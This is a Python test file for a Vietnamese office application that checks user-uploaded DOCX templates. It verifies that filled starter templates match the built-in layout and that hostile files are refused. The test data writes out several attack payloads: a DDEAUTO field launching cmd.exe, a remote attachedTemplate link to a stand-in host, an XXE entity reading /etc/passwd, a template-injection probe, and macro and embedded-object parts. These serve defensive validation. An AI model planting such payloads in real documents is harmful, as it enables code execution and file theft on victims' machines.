"""An office's own DOCX: the starter fills to the same words, hostile files are refused by name."""

from __future__ import annotations

import io
import zipfile

import docx
import paper_samples as sample
import pytest

from thidua.papers import decision_docx
from thidua.papers.own_docx import faults, fields_in, filled
from thidua.papers.own_fields import KNOWN, values_of
from thidua.papers.own_starter import starter_docx

DDE = 'DDEAUTO c:\\cmd.exe "/k"'
RELATIONS = "word/_rels/document.xml.rels"
REMOTE = (
    '<Relationship Id="rX" TargetMode="External" Target="http://may-khac.example/mau.dotm" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    "</Relationships>"
)


def words(data: bytes) -> list[str]:
    document = docx.Document(io.BytesIO(data))
    cells = [c for table in document.tables for row in table.rows for c in dict.fromkeys(row.cells)]
    texts = [p.text for p in document.paragraphs] + [p.text for c in cells for p in c.paragraphs]
    return sorted(text for text in texts if text.strip())


def rebuilt(data: bytes, **changes: tuple[str, str] | str) -> bytes:
    """The container with parts added, or with a text in a part replaced; `__` for a slash."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            part = old.read(name)
            change = changes.pop(name, None)
            if isinstance(change, tuple):
                part = part.decode().replace(*change).encode()
            new.writestr(name, part)
        for name, part in changes.items():
            new.writestr(name, part)
    return out.getvalue()


def with_paragraph(*runs: str) -> bytes:
    document = docx.Document(io.BytesIO(starter_docx("decision")))
    paragraph = document.add_paragraph()
    for run in runs:
        paragraph.add_run(run)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


@pytest.mark.parametrize("kind", ["decision", "submission", "list"])
def test_starter_is_a_template_without_faults_and_knows_its_fields(kind):
    data = starter_docx(kind)

    assert faults(data, kind) == []
    assert set(fields_in(data)) <= set(KNOWN[kind])


def test_filled_starter_says_what_the_built_in_layout_says():
    paper = sample.decision()

    mine = words(filled(starter_docx("decision"), values_of(paper)))

    built = words(decision_docx(paper))
    missing = [text for text in built if text not in mine and not text.startswith("Tổng cộng")]
    # The built-in table numbers its groups, adds them up and leaves no empty column.
    assert [
        text for text in missing if text not in {"I. Cá nhân", "II. Tập thể", "2.700.000"}
    ] == []
    assert not [text for text in mine if "{{" in text]


def test_article_keeps_its_bold_lead_and_each_base_its_paragraph():
    document = docx.Document(
        io.BytesIO(filled(starter_docx("decision"), values_of(sample.decision())))
    )

    first = next(p for p in document.paragraphs if p.text.startswith("Điều 1."))
    bases = [p for p in document.paragraphs if p.text.startswith("Căn cứ")]
    assert first.runs[0].bold
    assert first.runs[0].text == "Điều 1. "
    assert not first.runs[1].bold
    assert len(bases) == 2


def test_field_that_word_split_into_runs_is_filled_with_the_first_ones_looks():
    data = with_paragraph("Người ký: {{ng", "uoi_", "ky}}; ", "Số {{so}}.")

    text = words(filled(data, values_of(sample.decision())))

    assert faults(data, "decision") == []
    assert "Người ký: Bạch Văn Minh; Số Số: 05/QĐ‑UBND." in text


def test_value_that_looks_like_a_field_or_markup_is_only_text():
    paper = sample.decision(subject="{{nguoi_ky}} <w:p/> ${x} {% for %}")

    text = words(filled(starter_docx("decision"), values_of(paper)))

    assert "{{nguoi_ky}} <w:p/> ${x} {% for %}" in text


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (with_paragraph("{{khong_co}}"), "không có trường “khong_co”"),
        (with_paragraph("{{ dong.ten }}"), "chỉ dùng trong hàng của bảng"),
        (with_paragraph("{{nguoi_ky"), "không khép"),
        (with_paragraph("{{ ''.__class__ }}"), "không có trường “''.__class__”"),
        (starter_docx("list"), "Mẫu thiếu trường bắt buộc: {{trich_yeu}}, {{cac_dieu}}"),
        (rebuilt(starter_docx("decision"), **{"word/vbaProject.bin": "x"}), "Tệp có macro"),
        (rebuilt(starter_docx("decision"), **{"word/embeddings/a.bin": "x"}), "đối tượng nhúng"),
        (
            rebuilt(starter_docx("decision"), **{RELATIONS: ("</Relationships>", REMOTE)}),
            "dẫn ra ngoài, tới “http://may-khac.example/mau.dotm”",
        ),
        (
            rebuilt(
                starter_docx("decision"),
                **{
                    "word/document.xml": (
                        "<w:sectPr",
                        f"<w:p><w:r><w:instrText>{DDE}</w:instrText></w:r></w:p><w:sectPr",
                    )
                },
            ),
            "trường lấy nội dung từ nơi khác: “DDEAUTO",
        ),
        (
            rebuilt(
                starter_docx("decision"),
                **{
                    "word/lạ.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
                },
            ),
            "khai báo thực thể lạ",
        ),
        (b"PK\x03\x04 broken", "bị hỏng"),
    ],
    ids=range(11),
)
def test_hostile_or_wrong_template_is_refused_with_its_place(data, says):
    found = faults(data, "decision")

    assert says in " ".join(found)
